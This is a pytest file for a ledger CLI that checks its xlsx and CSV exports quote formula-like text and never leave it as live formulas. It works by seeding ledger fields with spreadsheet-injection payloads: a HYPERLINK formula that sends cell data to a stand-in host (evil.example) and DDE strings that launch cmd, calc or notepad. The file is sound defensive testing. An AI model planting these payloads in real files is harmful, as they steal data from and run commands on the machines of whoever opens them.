"""Text from the ledger never becomes a formula in the 台账 (issue 26.10): the xlsx of status,
report and year-end, and the weekly and year-end CSV, opened and every cell looked at."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from .conftest import REPO, invoke

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C5,"详情")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = {"lead": HYPERLINK, "owners": DDE}
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "+1+cmd|' /C notepad'!A0"
AREA = "-2+3+cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_ledger(tmp_path: Path, runner: CliRunner) -> Path:
    """The example ledger with formulas in a 牵头单位, the 责任单位, a name, a unit and an area: set the
    way offices set them (`kzt set`) and by hand in targets.toml."""
    shutil.copytree(REPO / "examples", tmp_path / "examples", ignore=shutil.ignore_patterns(".cache"))
    shutil.copytree(REPO / "seeds", tmp_path / "seeds")
    ledger = tmp_path / "examples" / "targets.toml"
    for field, value in HOSTILE.items():
        result = invoke(runner, "-f", str(ledger), "set", "port-throughput", field, value)
        assert result.exit_code == 0, result.stderr
    text = ledger.read_text(encoding="utf-8")
    text = text.replace('name = "港口货物吞吐量"', f"name = {toml_string(NAME)}", 1)
    text = text.replace('unit = "万吨"', f"unit = {toml_string(UNIT)}", 1)
    ledger.write_text(text, encoding="utf-8")
    assert NAME in ledger.read_text(encoding="utf-8")
    return ledger


def toml_string(text: str) -> str:
    return "'" + text + "'" if "'" not in text else '"' + text.replace('"', '\\"') + '"'


def cells_of(path: Path) -> list:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(path: Path, expected: list[str]) -> None:
    cells = cells_of(path)
    assert cells
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:  # the hostile text is there, as text, quoted as Excel quotes a typed '=…
        found = [c for c in cells if isinstance(c.value, str) and text in c.value]
        assert found, (text, sorted(texts)[:20])
        assert all(c.data_type == "s" for c in found)
        assert all(c.quotePrefix for c in found if c.value.startswith(STARTS))
    # Numbers stay numeric: negative gaps are numeric cells, not quoted text.
    numbers = [c.value for c in cells if c.data_type == "n" and isinstance(c.value, float)]
    assert any(v < 0 for v in numbers)


def test_status_and_report_workbooks_hold_no_formula(runner: CliRunner, hostile_ledger: Path,
                                                     tmp_path: Path) -> None:
    for command in (["status", "--as-of", "2026-11-22"], ["report", "--as-of", "2026-11-22"]):
        out = tmp_path / f"{command[0]}.xlsx"
        result = invoke(runner, "-f", str(hostile_ledger), *command, "--format", "xlsx", "-o", str(out))
        assert result.exit_code == 0, result.stderr
        assert_no_formula(out, [HYPERLINK, DDE, NAME, UNIT])
        book = load_workbook(out)
        # The 牵头单位's own sheet and its title row carry the formula as text too.
        unit_sheets = [s for s in book.worksheets if any(isinstance(c.value, str) and c.value.startswith(HYPERLINK)
                                                         for row in s.iter_rows(max_row=3) for c in row)]
        assert unit_sheets


def with_year_end_figures(runner: CliRunner, ledger: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two 2026 year-end figures, one short of its target: a negative gap in the year-end table."""
    monkeypatch.setenv("KZT_TODAY", "2027-02-10")
    for target, value in (("gdp-growth", "4.2%"), ("jobs-new-urban", "7500")):
        result = invoke(runner, "-f", str(ledger), "record", target, value, "--as-of", "2026年全年")
        assert result.exit_code == 0, result.stderr


def test_year_end_workbook_holds_no_formula(runner: CliRunner, hostile_ledger: Path, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    with_year_end_figures(runner, hostile_ledger, monkeypatch)
    out = tmp_path / "year.xlsx"
    result = invoke(runner, "-f", str(hostile_ledger), "report", "--year-end", "2026", "--as-of", "2027-02-10",
                    "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert_no_formula(out, [HYPERLINK, NAME, UNIT])


@pytest.mark.parametrize("command", [["report", "--as-of", "2026-11-22"],
                                     ["report", "--year-end", "2026", "--as-of", "2027-02-10"]])
def test_csv_cells_are_quoted_where_a_spreadsheet_would_compute(runner: CliRunner, hostile_ledger: Path,
                                                                command: list[str],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    if "--year-end" in command:
        with_year_end_figures(runner, hostile_ledger, monkeypatch)
    result = invoke(runner, "-f", str(hostile_ledger), *command, "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    risky = [c for c in cells if c.startswith(STARTS) and not re.fullmatch(r"[+-]?[\d,]+(\.\d+)?%?", c)]
    assert risky == []
    assert "'" + NAME in cells and "'" + UNIT in cells
    assert any(re.fullmatch(r"-\d+(\.\d+)?", c) for c in cells)  # negative numbers stay numbers
